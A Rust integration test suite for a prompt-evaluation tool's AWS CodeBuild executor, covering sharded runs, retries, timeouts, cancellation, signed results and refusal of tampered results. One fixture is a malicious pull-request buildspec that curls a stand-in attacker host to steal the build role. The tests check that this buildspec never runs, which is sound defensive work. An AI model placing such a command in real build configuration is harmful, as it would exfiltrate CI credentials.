//! The CodeBuild executor against moto_server (CodeBuild and S3 on loopback) and a
//! wiremock fake of CodeBuild for what moto cannot do (FAILED, TIMED_OUT, throttling,
//! builds that keep running). moto runs no build, so a stand-in runs the worker code
//! in process on every shard plan it finds in S3 and writes the result where the build
//! would.
//!
//! Needs `moto_server` on PATH: `pip install 'moto[server]'` (.ci/run does it).

#[path = "common/codebuild.rs"]
mod cb;
mod common;

use std::sync::Arc;
use std::time::Duration;

use cb::{FakeCodeBuild, Moto, Tamper, BUCKET, PROJECT};
use common::{calls, fake_openai, TestRepo};
use promptgate::check::{CheckOptions, Revisions};
use promptgate::execute::{ClientOptions, ModelClient};
use promptgate::executor::codebuild::{BUILDSPEC, ENV_PLAN, ENV_RESULT};
use promptgate::executor::shard::ShardSizing;
use promptgate::executor::worker::{ShardKey, ENV_SHARD_KEY};
use promptgate::executor::{
    CodeBuildConfig, CodeBuildExecutor, Executor, LocalExecutor, RunRequest,
};
use promptgate::report::{Report, Verdict};
use promptgate::source::{GitSource, Rev};
use promptgate::store::Store;
use serde_json::Value;
use wiremock::matchers::method;
use wiremock::{Mock, MockServer};

const CASES: usize = 12;
/// What a malicious PR puts at its root, hoping the build runs it.
const EVIL_BUILDSPEC: &str =
    "version: 0.2\nphases:\n  build:\n    commands:\n      - curl http://attacker.invalid/steal-role\n";

fn config(url: &str) -> String {
    format!(
        r#"version: 1
suites:
  support:
    prompts:
      system: prompts/system.j2
      user: prompts/user.j2
    model: models/chat.yaml
    dataset: evals/support.jsonl
    untrusted_vars: [question]
    injection: {{ sample: 2 }}
    metrics:
      assertions: {{ min: 0.5 }}
      similarity: {{ min: 0.3 }}
      faithfulness: {{ min: 0.5 }}
      hallucination_rate: {{ max: 0.5 }}
      injection_failures: {{ max: 100 }}
evaluators:
  embedding: {{ provider: openai, model: embed-1, base_url: "{url}" }}
  judge: {{ provider: openai, model: judge-1, base_url: "{url}" }}
"#
    )
}

/// A repository whose head changes the system prompt, so every case is affected at
/// base and head; head also adds a buildspec.yml that must never run.
fn setup(url: &str) -> (TestRepo, String, String) {
    let repo = TestRepo::new();
    repo.write(".promptgate.yml", &config(url));
    repo.write("prompts/system.j2", "You are a support agent.");
    repo.write("prompts/user.j2", "{{ question }}");
    repo.write(
        "models/chat.yaml",
        &format!("provider: openai\nmodel: chat-1\nbase_url: {url}\npricing: {{ input_per_1k_tokens: 0.001, output_per_1k_tokens: 0.002 }}\n"),
    );
    let dataset: String = (0..CASES)
        .map(|i| {
            let expected = if i % 4 == 0 { "UNSUPPORTED" } else { "refund" };
            format!(
                "{{\"id\": \"c{i}\", \"vars\": {{\"question\": \"refund question {i}\"}}, \"expected\": \"{expected} question {i}\", \"assert\": [{{\"type\": \"contains\", \"value\": \"question {}\"}}]}}\n",
                i % 3
            )
        })
        .collect();
    repo.write("evals/support.jsonl", &dataset);
    let base = repo.commit("base");
    repo.write("prompts/system.j2", "You are a support agent. PREFIX=ok-");
    repo.write("buildspec.yml", EVIL_BUILDSPEC);
    let head = repo.commit("head");
    (repo, base, head)
}

fn revs(base: &str, head: &str) -> Revisions {
    Revisions {
        base: Rev::Commit(base.to_string()),
        head: Rev::Commit(head.to_string()),
        policy: None,
        base_label: base.to_string(),
        head_label: head.to_string(),
    }
}

async fn store() -> Store {
    Store::open_url("sqlite::memory:").await.unwrap()
}

fn fast_client_opts() -> ClientOptions {
    ClientOptions {
        backoff_base: Duration::from_millis(1),
        ..ClientOptions::default()
    }
}

fn cb_config(prefix: &str) -> CodeBuildConfig {
    CodeBuildConfig {
        prefix: prefix.to_string(),
        sizing: ShardSizing {
            max_shards: 3,
            min_cases_per_shard: 4,
        },
        deadline: Duration::from_secs(60),
        poll_initial: Duration::from_millis(400),
        poll_max: Duration::from_millis(800),
        ..CodeBuildConfig::new(PROJECT, BUCKET)
    }
}

async fn run(exec: &dyn Executor, repo: &TestRepo, base: &str, head: &str, run_id: &str) -> Report {
    let source = GitSource::open(repo.path()).await.unwrap();
    let revs = revs(base, head);
    let opts = CheckOptions::default();
    exec.run(RunRequest {
        run_id: run_id.to_string(),
        head_sha: head.to_string(),
        source: &source,
        revs: &revs,
        opts: &opts,
    })
    .await
}

/// What must agree between a local and a sharded run: verdicts, metrics, counts,
/// failures and model usage. Latency metrics are measured wall times, which differ
/// between any two runs, so they are left out.
fn essence(r: &Report) -> Value {
    let v = serde_json::to_value(r).unwrap();
    let suites: Vec<Value> = v["suites"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| {
            serde_json::json!({
                "name": s["name"], "verdict": s["verdict"], "cases": s["cases"],
                "metrics": s["metrics"].as_array().unwrap().iter()
                    .filter(|m| !m["name"].as_str().unwrap().starts_with("latency_"))
                    .cloned().collect::<Vec<_>>(),
                "failures": s["failures"], "injection": s["injection"],
                "errors": s["errors"],
            })
        })
        .collect();
    serde_json::json!({
        "verdict": v["verdict"], "suites": suites,
        "model_calls": v["usage"]["model_calls"], "embedding_calls": v["usage"]["embedding_calls"],
        "cost_usd": v["usage"]["cost_usd"],
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn sharded_run_on_moto_gives_the_local_report_and_fills_the_cache() {
    let moto = Moto::start();
    let (s3, codebuild) = (cb::s3_client(&moto.url), cb::codebuild_client(&moto.url));
    cb::provision(&s3, Some(&codebuild)).await;

    // Local: the reference.
    let local_model = fake_openai().await;
    let (repo, base, head) = setup(&format!("{}/v1", local_model.uri()));
    let local = LocalExecutor::with_options(store().await, fast_client_opts());
    let local_report = run(&local, &repo, &base, &head, "local-1").await;
    assert_ne!(
        local_report.verdict,
        Verdict::Error,
        "{:#?}",
        local_report.errors
    );
    assert_eq!(local_report.suites[0].cases.evaluated, CASES);

    // Same repository shape against a second fake model, evaluated through shards.
    let shard_model = fake_openai().await;
    let (repo, base, head) = setup(&format!("{}/v1", shard_model.uri()));
    let bot_store = store().await;
    // moto reports a build SUCCEEDED on its first poll, whether or not the stand-in has
    // written the result yet; a first poll after 3 s leaves the stand-in time on two
    // loaded cores (a real build only succeeds once its worker has uploaded it).
    // moto keeps no environment overrides, so the stand-in cannot read the run's key
    // from StartBuild as a build does: the executor signs with a fixed one here.
    let key = ShardKey::random();
    let exec = CodeBuildExecutor::with_clients(
        CodeBuildConfig {
            poll_initial: Duration::from_secs(3),
            fixed_shard_key: Some(key.clone()),
            ..cb_config("pg")
        },
        bot_store.clone(),
        codebuild.clone(),
        s3.clone(),
    );
    let fixed = key.clone();
    let builds = cb::stand_in_builds(
        s3.clone(),
        cb::Finished::default(),
        Arc::new(move |_| Some(fixed.clone())),
        Tamper::None,
    );
    let report = run(&exec, &repo, &base, &head, "42").await;
    builds.abort();

    assert_eq!(essence(&report), essence(&local_report));
    assert_eq!(
        serde_json::to_value(&report.suites[0].cases).unwrap(),
        serde_json::to_value(&local_report.suites[0].cases).unwrap()
    );
    assert_eq!(calls(&shard_model).await, calls(&local_model).await);
    assert!(
        report
            .notes
            .iter()
            .any(|n| n.contains("AWS CodeBuild") && n.contains("3 shard(s)")),
        "{:?}",
        report.notes
    );

    // Three shards, each a plan and a result under the run's prefix, and three
    // builds at the head SHA on moto.
    let keys = cb::list_keys(&s3, "pg/runs/42-").await;
    assert_eq!(
        keys.iter().filter(|k| k.ends_with("/plan.json")).count(),
        3,
        "{keys:?}"
    );
    assert_eq!(
        keys.iter().filter(|k| k.ends_with("/result.json")).count(),
        3
    );
    // The key that signs the results never goes to S3.
    for k in &keys {
        let body = promptgate::executor::worker::s3_get(&s3, BUCKET, k)
            .await
            .unwrap();
        assert!(
            !String::from_utf8_lossy(&body).contains(&key.to_hex()),
            "{k} holds the shard key"
        );
    }
    let ids = codebuild
        .list_builds_for_project()
        .project_name(PROJECT)
        .send()
        .await
        .unwrap()
        .ids()
        .to_vec();
    assert_eq!(ids.len(), 3);
    let got = codebuild
        .batch_get_builds()
        .set_ids(Some(ids.clone()))
        .send()
        .await
        .unwrap();
    for b in got.builds() {
        // No source version is sent (moto fills in its default branch): the build
        // checks out nothing of the PR. The fake asserts the NO_SOURCE override.
        assert_ne!(b.source_version(), Some(head.as_str()));
        assert_eq!(b.build_status().map(|s| s.as_str()), Some("SUCCEEDED"));
    }
    // StopBuild on moto: a stopped build reads STOPPED.
    let stopped = codebuild.stop_build().id(&ids[0]).send().await.unwrap();
    assert_eq!(
        stopped
            .build_value()
            .and_then(|b| b.build_status())
            .map(|s| s.as_str()),
        Some("STOPPED")
    );

    // The merged results are in the bot's cache: a second CodeBuild run starts no
    // build, and a local run over the same cache makes no model call.
    let before = calls(&shard_model).await;
    let again = run(&exec, &repo, &base, &head, "43").await;
    assert_eq!(
        essence_without_usage(&again),
        essence_without_usage(&report)
    );
    assert!(cb::list_keys(&s3, "pg/runs/43-").await.is_empty());
    let local_again = LocalExecutor::with_options(bot_store.clone(), fast_client_opts());
    let third = run(&local_again, &repo, &base, &head, "44").await;
    assert_eq!(third.usage.model_calls, 0);
    assert_eq!(third.suites[0].cases.cached, CASES);
    assert_eq!(calls(&shard_model).await, before);
}

fn essence_without_usage(r: &Report) -> Value {
    let mut v = essence(r);
    for k in ["model_calls", "embedding_calls", "cost_usd"] {
        v[k] = Value::Null;
    }
    for s in v["suites"].as_array_mut().unwrap() {
        s["cases"]["cached"] = Value::Null;
    }
    v
}

/// A wiremock CodeBuild with moto's S3, and the stand-in builds.
struct FakeRig {
    store: Store,
    _moto: Moto,
    fake: FakeCodeBuild,
    _server: MockServer,
    exec: CodeBuildExecutor,
    builds: tokio::task::JoinHandle<()>,
    _model: MockServer,
    repo: TestRepo,
    base: String,
    head: String,
}

async fn fake_rig(fake: FakeCodeBuild, cfg: CodeBuildConfig) -> FakeRig {
    tampered_rig(fake, cfg, Tamper::None).await
}

/// The rig, with stand-in builds that change their results.
async fn tampered_rig(fake: FakeCodeBuild, cfg: CodeBuildConfig, tamper: Tamper) -> FakeRig {
    let moto = Moto::start();
    let s3 = cb::s3_client(&moto.url);
    cb::provision(&s3, None).await;
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .respond_with(fake.clone())
        .mount(&server)
        .await;
    let model = fake_openai().await;
    let (repo, base, head) = setup(&format!("{}/v1", model.uri()));
    let bot_store = store().await;
    let exec = CodeBuildExecutor::with_clients(
        cfg,
        bot_store.clone(),
        cb::codebuild_client(&server.uri()),
        s3.clone(),
    );
    FakeRig {
        store: bot_store,
        builds: cb::stand_in_builds(s3, fake.finished.clone(), fake.key_for(), tamper),
        _moto: moto,
        fake,
        _server: server,
        exec,
        _model: model,
        repo,
        base,
        head,
    }
}

/// Every StartBuild carried the bot's buildspec, no source (the plan is
/// self-contained), and env overrides naming the shard's plan and result and handing
/// over the run's key; never the repository's buildspec.
fn assert_trusted_starts(fake: &FakeCodeBuild) {
    let s = fake.state.lock().unwrap();
    assert!(!s.starts.is_empty());
    for body in &s.starts {
        assert_eq!(body["projectName"], PROJECT);
        assert_eq!(body["sourceTypeOverride"], "NO_SOURCE", "{body}");
        assert!(body.get("sourceVersion").is_none(), "{body}");
        assert_eq!(body["buildspecOverride"], BUILDSPEC, "{body}");
        assert!(!body.to_string().contains("attacker.invalid"), "{body}");
        let env: Vec<(String, String)> = body["environmentVariablesOverride"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| {
                (
                    e["name"].as_str().unwrap().to_string(),
                    e["value"].as_str().unwrap().to_string(),
                )
            })
            .collect();
        let plan = env
            .iter()
            .find(|(n, _)| n == ENV_PLAN)
            .expect("plan env")
            .1
            .clone();
        let result = env
            .iter()
            .find(|(n, _)| n == ENV_RESULT)
            .expect("result env")
            .1
            .clone();
        assert!(plan.starts_with(&format!("s3://{BUCKET}/")) && plan.ends_with("/plan.json"));
        assert_eq!(result, plan.replace("/plan.json", "/result.json"));
        let key = env
            .iter()
            .find(|(n, _)| n == ENV_SHARD_KEY)
            .expect("shard key env");
        assert!(ShardKey::from_hex(&key.1).is_ok(), "{key:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_failed_shard_is_retried_once_and_throttling_is_retried() {
    // Build 0 FAILED, build 2 FAULT; their retries succeed. StartBuild and
    // BatchGetBuilds are throttled twice each on the way.
    let fake = FakeCodeBuild::new(vec!["FAILED", "SUCCEEDED", "FAULT"], 2, 2);
    let rig = fake_rig(fake, cb_config("pg")).await;
    let report = run(&rig.exec, &rig.repo, &rig.base, &rig.head, "7").await;
    rig.builds.abort();
    assert_ne!(report.verdict, Verdict::Error, "{:#?}", report.errors);
    assert_eq!(report.suites[0].cases.evaluated, CASES);
    assert!(
        report
            .notes
            .iter()
            .any(|n| n.contains("Retried once") && n.contains("FAILED")),
        "{:?}",
        report.notes
    );
    let s = rig.fake.state.lock().unwrap();
    // 3 shards + 2 retries started, after 2 throttled attempts.
    assert_eq!(s.builds.len(), 5);
    assert_eq!(s.starts.len(), 7);
    drop(s);
    assert_trusted_starts(&rig.fake);
}

/// A cache key no unit of the plan computes.
const FORGED_KEY: &str = "f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0";

/// A real answer copied under a key the plan never asked for.
fn add_forged_entry(r: &mut promptgate::executor::worker::ShardResult) {
    if let Some(first) = r.entries.first() {
        let mut forged = first.clone();
        forged.key = FORGED_KEY.to_string();
        r.entries.push(forged);
    }
}

async fn cached_rows(store: &Store) -> i64 {
    sqlx::query_scalar("SELECT COUNT(*) FROM results")
        .fetch_one(store.pool())
        .await
        .unwrap()
}

/// Someone who can write to the bucket, but does not hold the run's key, rewrites
/// the shard results: the bot refuses them before parsing, retries the shard once,
/// and ends the run as `error`; nothing of theirs reaches the cache.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_result_rewritten_in_the_bucket_is_refused_and_never_cached() {
    let fake = FakeCodeBuild::new(Vec::new(), 0, 0);
    let rig = tampered_rig(
        fake,
        cb_config("pg"),
        Tamper::AfterSigning(add_forged_entry),
    )
    .await;
    let report = run(&rig.exec, &rig.repo, &rig.base, &rig.head, "30").await;
    rig.builds.abort();
    assert_eq!(report.verdict, Verdict::Error, "{report:#?}");
    let err = report.errors.join("\n");
    assert!(err.contains("not signed with this run's key"), "{err}");
    assert!(err.contains("failed twice"), "{err}");
    assert_eq!(cached_rows(&rig.store).await, 0);
    assert_trusted_starts(&rig.fake);
}

/// Even a build that holds the key (a compromised worker) cannot write a key its
/// plan did not ask for: the entry is dropped, the run's report is the honest one,
/// and a note says what was not stored.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_signed_result_stores_only_what_its_plan_asked_for() {
    let fake = FakeCodeBuild::new(Vec::new(), 0, 0);
    let rig = tampered_rig(
        fake,
        cb_config("pg"),
        Tamper::BeforeSigning(add_forged_entry),
    )
    .await;
    let report = run(&rig.exec, &rig.repo, &rig.base, &rig.head, "31").await;
    rig.builds.abort();
    assert_ne!(report.verdict, Verdict::Error, "{:#?}", report.errors);
    assert_eq!(report.suites[0].cases.evaluated, CASES);
    assert!(
        report.notes.iter().any(|n| n.contains("Not stored")),
        "{:?}",
        report.notes
    );
    let forged: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM results WHERE key = ?1")
        .bind(FORGED_KEY)
        .fetch_one(rig.store.pool())
        .await
        .unwrap();
    assert_eq!(forged, 0);
    assert!(
        cached_rows(&rig.store).await > 0,
        "the honest results are kept"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_shard_timing_out_twice_ends_the_run_as_error_with_build_and_logs() {
    let fake = FakeCodeBuild::new(
        vec!["TIMED_OUT", "IN_PROGRESS", "IN_PROGRESS", "TIMED_OUT"],
        0,
        0,
    );
    let rig = fake_rig(fake, cb_config("pg")).await;
    let report = run(&rig.exec, &rig.repo, &rig.base, &rig.head, "8").await;
    rig.builds.abort();
    assert_eq!(report.verdict, Verdict::Error);
    let err = report.errors.join("\n");
    assert!(err.contains("failed twice"), "{err}");
    assert!(
        err.contains("pg-eval:build-3") && err.contains("TIMED_OUT"),
        "{err}"
    );
    assert!(
        err.contains("https://us-east-1.console.aws.amazon.com/codesuite/codebuild/projects/pg-eval/build/pg-eval%3Abuild-3/log?region=us-east-1"),
        "{err}"
    );
    // The PR comment carries the build id and the link to its logs.
    let comment = promptgate::report::markdown::render_comment(
        &report,
        &promptgate::report::markdown::RenderOptions::default(),
    )
    .unwrap();
    assert!(comment.contains("pg-eval:build-3"), "{comment}");
    assert!(
        comment.contains("pg-eval%3Abuild-3/log?region=us-east-1"),
        "{comment}"
    );
    // The builds still running were stopped.
    let s = rig.fake.state.lock().unwrap();
    let mut stopped = s.stopped.clone();
    stopped.sort();
    assert_eq!(stopped, ["pg-eval:build-1", "pg-eval:build-2"]);
    drop(s);
    assert_trusted_starts(&rig.fake);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn cancel_and_deadline_stop_the_builds() {
    let fake = FakeCodeBuild::new(vec!["IN_PROGRESS"; 6], 0, 0);
    let rig = Arc::new(fake_rig(fake, cb_config("pg")).await);
    let task = {
        let rig = Arc::clone(&rig);
        tokio::spawn(async move { run(&rig.exec, &rig.repo, &rig.base, &rig.head, "9").await })
    };
    // Wait until the builds run, then cancel as `/promptgate cancel` would.
    let started = wait_for(|| rig.fake.state.lock().unwrap().builds.len() == 3).await;
    assert!(started, "the three shard builds never started");
    assert!(rig.exec.cancel("9").await);
    let report = task.await.unwrap();
    assert_eq!(report.verdict, Verdict::Error);
    assert!(
        report.errors.join("\n").contains("cancelled"),
        "{:?}",
        report.errors
    );
    assert_eq!(rig.fake.state.lock().unwrap().stopped.len(), 3);
    assert!(!rig.exec.cancel("9").await, "a finished run is gone");
    rig.builds.abort();

    // A run past its deadline stops its builds too.
    let fake = FakeCodeBuild::new(vec!["IN_PROGRESS"; 6], 0, 0);
    let cfg = CodeBuildConfig {
        deadline: Duration::from_millis(1500),
        ..cb_config("pg")
    };
    let rig = fake_rig(fake, cfg).await;
    let report = run(&rig.exec, &rig.repo, &rig.base, &rig.head, "10").await;
    rig.builds.abort();
    let err = report.errors.join("\n");
    assert!(err.contains("PROMPTGATE_CODEBUILD_DEADLINE_SECS"), "{err}");
    assert_eq!(rig.fake.state.lock().unwrap().stopped.len(), 3);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn aborting_the_run_task_stops_its_builds() {
    let fake = FakeCodeBuild::new(vec!["IN_PROGRESS"; 3], 0, 0);
    // The third build exists before its StartBuild is answered, so the abort below
    // lands while that answer is on its way: the build must still be stopped.
    fake.state.lock().unwrap().start_delay = Duration::from_millis(400);
    let rig = Arc::new(fake_rig(fake, cb_config("pg")).await);
    let task = {
        let rig = Arc::clone(&rig);
        tokio::spawn(async move { run(&rig.exec, &rig.repo, &rig.base, &rig.head, "11").await })
    };
    // Waits on state, not on time: a loaded machine only makes this slower (the bound
    // is there so a real hang fails instead of running forever).
    let started = wait_for(|| rig.fake.state.lock().unwrap().builds.len() == 3).await;
    assert!(started, "the three shard builds never started");
    // What the bot does to a superseded run today.
    task.abort();
    let _ = task.await;
    let stopped = wait_for(|| rig.fake.state.lock().unwrap().stopped.len() == 3).await;
    assert!(
        stopped,
        "stopped: {:?}",
        rig.fake.state.lock().unwrap().stopped
    );
    rig.builds.abort();
}

/// Polls `cond` until it holds (true) or two minutes pass (false).
async fn wait_for(cond: impl Fn() -> bool) -> bool {
    for _ in 0..4800 {
        if cond() {
            return true;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    false
}

#[test]
fn the_reference_buildspec_is_the_one_sent() {
    let on_disk =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/deploy/buildspec.yml"))
            .unwrap();
    assert_eq!(on_disk, BUILDSPEC);
}

#[tokio::test]
async fn worker_runs_a_plan_from_files() {
    // The subcommand's file mode: a plan in, a result out, no AWS.
    let model = fake_openai().await;
    let (repo, base, head) = setup(&format!("{}/v1", model.uri()));
    let source = GitSource::open(repo.path()).await.unwrap();
    let plan =
        promptgate::check::plan(&source, &revs(&base, &head), &CheckOptions::default()).await;
    let units = plan.work();
    // Every case, plus the attack runs.
    assert!(units.len() > CASES, "{}", units.len());
    let shard = promptgate::executor::worker::ShardPlan {
        version: promptgate::executor::worker::FORMAT_VERSION,
        run_id: "file".into(),
        shard: 0,
        head_sha: head.clone(),
        max_in_flight: 4,
        namespace: None,
        seed: Vec::new(),
        units,
    };
    let dir = tempfile::tempdir().unwrap();
    let (p, o) = (dir.path().join("plan.json"), dir.path().join("result.json"));
    std::fs::write(&p, serde_json::to_vec(&shard).unwrap()).unwrap();
    let result = promptgate::executor::worker::run_cli(
        p.to_str().unwrap(),
        o.to_str().unwrap(),
        fast_client_opts(),
        None,
    )
    .await
    .unwrap();
    let written: promptgate::executor::worker::ShardResult =
        serde_json::from_slice(&std::fs::read(&o).unwrap()).unwrap();
    assert_eq!(written, result);
    assert!(
        !dir.path().join("result.json.sig").exists(),
        "no key, no signature"
    );
    assert!(result.errors.is_empty(), "{:?}", result.errors);
    let (chat, emb) = calls(&model).await;
    assert_eq!(result.entries.len(), chat + emb);
    assert_eq!(result.usage.chat_calls as usize, chat);

    // A client over those entries answers the whole plan from the cache.
    let store = store().await;
    let entries: Vec<_> = result
        .entries
        .iter()
        .map(|e| (e.key.clone(), e.store_kind().unwrap(), e.value.clone()))
        .collect();
    store.put_many(&entries).await.unwrap();
    let client = ModelClient::new(
        store,
        ClientOptions {
            mode: promptgate::execute::Mode::CacheOnly,
            ..ClientOptions::default()
        },
    );
    let report = promptgate::check::run(
        &source,
        &revs(&base, &head),
        &CheckOptions::default(),
        &client,
    )
    .await;
    assert!(
        report.errors.is_empty() && report.suites[0].errors.is_empty(),
        "{report:#?}"
    );
    assert_eq!(report.usage.model_calls, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_new_judge_reuses_cached_generations_in_the_shards() {
    let fake = FakeCodeBuild::new(Vec::new(), 0, 0);
    let rig = fake_rig(fake, cb_config("pg")).await;
    let first = run(&rig.exec, &rig.repo, &rig.base, &rig.head, "20").await;
    assert_ne!(first.verdict, Verdict::Error, "{:#?}", first.errors);
    let generations = common::generation_calls(&rig._model).await;

    // The same change under a new judge: every score key changes, no input key does.
    let swap = |rev: &str, branch: &str| {
        rig.repo.git(&["checkout", "-q", rev, "-b", branch]);
        let cfg = rig
            .repo
            .read(".promptgate.yml")
            .replace("judge-1", "judge-2");
        rig.repo.write(".promptgate.yml", &cfg);
        rig.repo.commit("judge-2")
    };
    let (base2, head2) = (swap(&rig.base, "b2"), swap(&rig.head, "h2"));
    let second = run(&rig.exec, &rig.repo, &base2, &head2, "21").await;
    rig.builds.abort();
    assert_ne!(second.verdict, Verdict::Error, "{:#?}", second.errors);
    assert_eq!(second.suites[0].cases.evaluated, CASES);
    // The shards got the cached generations as seed: only judge calls were made.
    assert_eq!(common::generation_calls(&rig._model).await, generations);
    assert!(second.usage.model_calls > 0);
    assert_eq!(rig.fake.state.lock().unwrap().builds.len(), 6);
}

/// The real `promptgate worker`: with the key the bot hands it, the signature it writes
/// next to the result verifies over the result's bytes; a plan that asks it to answer
/// from recordings (`provider: replay`) fails the build instead.
#[tokio::test]
async fn the_worker_binary_signs_its_result_and_refuses_replay() {
    let model = fake_openai().await;
    let (repo, base, head) = setup(&format!("{}/v1", model.uri()));
    let source = GitSource::open(repo.path()).await.unwrap();
    let plan =
        promptgate::check::plan(&source, &revs(&base, &head), &CheckOptions::default()).await;
    let shard = promptgate::executor::worker::ShardPlan {
        version: promptgate::executor::worker::FORMAT_VERSION,
        run_id: "bin".into(),
        shard: 0,
        head_sha: head.clone(),
        max_in_flight: 4,
        namespace: None,
        seed: Vec::new(),
        units: plan.work(),
    };
    let dir = tempfile::tempdir().unwrap();
    let plan_json = serde_json::to_string(&shard).unwrap();
    let key = ShardKey::random();
    let worker = |plan_file: &std::path::Path, out: &std::path::Path| {
        std::process::Command::new(env!("CARGO_BIN_EXE_promptgate"))
            .args(["worker", "--plan"])
            .arg(plan_file)
            .arg("--out")
            .arg(out)
            .env(ENV_SHARD_KEY, key.to_hex())
            .env("PROMPTGATE_LOG", "warn")
            .output()
            .unwrap()
    };

    let (p, o) = (dir.path().join("plan.json"), dir.path().join("result.json"));
    std::fs::write(&p, &plan_json).unwrap();
    let out = worker(&p, &o);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let body = std::fs::read(&o).unwrap();
    let sig = std::fs::read(dir.path().join("result.json.sig")).unwrap();
    assert!(key.verify(&body, &sig));
    assert!(!ShardKey::random().verify(&body, &sig));

    assert!(plan_json.contains(r#""provider":"openai""#));
    let replay = plan_json.replace(r#""provider":"openai""#, r#""provider":"replay""#);
    let (p, o) = (
        dir.path().join("replay.json"),
        dir.path().join("replay-out.json"),
    );
    std::fs::write(&p, replay).unwrap();
    let out = worker(&p, &o);
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("provider: replay"), "{stderr}");
    assert!(!o.exists(), "no result for a refused plan");
}
